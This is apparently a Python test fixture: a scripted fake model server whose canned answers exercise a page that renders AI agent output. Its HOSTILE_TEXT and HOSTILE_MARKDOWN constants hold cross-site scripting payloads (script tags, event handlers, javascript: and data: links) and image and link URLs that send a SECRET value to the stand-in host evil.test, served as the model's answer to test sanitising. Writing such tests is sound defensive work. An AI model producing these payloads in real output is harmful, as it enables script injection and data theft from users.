"""A scripted model for the page's tests: what it says depends on the task and on how far its run has come.

`python -m tests.e2e.page.model [--delay-ms N]` prints its port. Every task that no script names is answered at once.
"""

from __future__ import annotations

import argparse
import asyncio
import json
import re
from collections.abc import Sequence
from typing import Any

from ringfence.testing.server import ScriptedServer, listen

EVIL = "http://evil.test"  # where whatever gets out would go
ANSWER = "There are **three** files.\n\n- one\n- two\n\n```\ncode\n```"
HOSTILE_TEXT = (
    "<script>window.pwned = 1</script><img src=x onerror='window.pwned = 2'><svg onload='window.pwned = 3'>"
    f"<iframe src='{EVIL}/frame'></iframe><link rel=stylesheet href='{EVIL}/style.css'>"
    f"<form action='{EVIL}/form'><button>Sign in again</button></form><base href='{EVIL}/'>"
)
HOSTILE_MARKDOWN = f"""Here you are.

![chart]({EVIL}/pixel.png?d=SECRET)
![chart][ref]
![inline](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+)
[click me](javascript:window.pwned=4)
[and me](JaVaScRiPt:window.pwned=5)
[nowhere](mailto:%zz)
[data](data:text/html,<script>window.pwned=6</script>)
[out]({EVIL}/leave?d=SECRET "title")
<{EVIL}/auto?d=SECRET>
{EVIL}/bare?d=SECRET
<a href="javascript:window.pwned=7">html</a>
<style>@import url({EVIL}/import.css); body {{ background: url({EVIL}/bg.png) }}</style>
<video src="{EVIL}/v.mp4" autoplay poster="{EVIL}/p.png"></video><object data="{EVIL}/o"></object>
{HOSTILE_TEXT}

[ref]: {EVIL}/ref.png?d=SECRET
"""


def call(tool: str, **args: Any) -> str:
    """A step that makes one call."""
    return json.dumps({"thought": f"I look with {tool}.", "calls": [{"tool": tool, "args": args}]})


def final(answer: str) -> str:
    """The last step."""
    return json.dumps({"thought": "done", "final_answer": {"answer": answer, "artifacts": [], "confidence": "high"}})


def _long(steps: int) -> list[str]:
    return [call("files.read", path="data/notes.txt", first=1, last=n + 1) for n in range(steps)] + [final("All read.")]


SCRIPTS: dict[str, Sequence[str]] = {  # the first whose words stand in the task
    "Write the greeting": [
        call("files.write", path="data/greeting.txt", text="Good morning.\n"),
        final("It is written."),
    ],
    "Read the page": [call("files.read", path="data/page.html"), final("The page is odd.")],
    "Read it slowly": _long(8),
    "Read it for long": _long(19),
    "Remember the walrus": [
        call("files.read", path="data/notes.txt"),
        call("memory.save", text="The walrus sleeps at noon.", kind="fact"),
        final("I will."),
    ],
    "Show the chart": [call("files.list"), final(HOSTILE_MARKDOWN)],
}


def say(request: Any) -> str:
    """The next step for a request."""
    messages = [message for message in request["messages"] if isinstance(message.get("content"), str)]
    tasks = re.findall(r"Task: (.*)", "\n".join(m["content"] for m in messages if m["role"] == "user"))
    task = tasks[-1] if tasks else ""
    steps = next((steps for words, steps in SCRIPTS.items() if words in task), [call("files.list"), final(ANSWER)])
    made = sum('"calls"' in m["content"] and "files.overview" not in m["content"] for m in messages
               if m["role"] == "assistant")  # fmt: skip
    return steps[min(made, len(steps) - 1)]


async def _serve(delay_ms: float) -> None:
    async with listen(ScriptedServer(say, delay_ms=delay_ms, window=32_768)) as server:
        print(server.port, flush=True)
        await asyncio.Event().wait()


if __name__ == "__main__":
    parser = argparse.ArgumentParser()
    parser.add_argument("--delay-ms", type=float, default=0.0)
    asyncio.run(_serve(parser.parse_args().delay_ms))
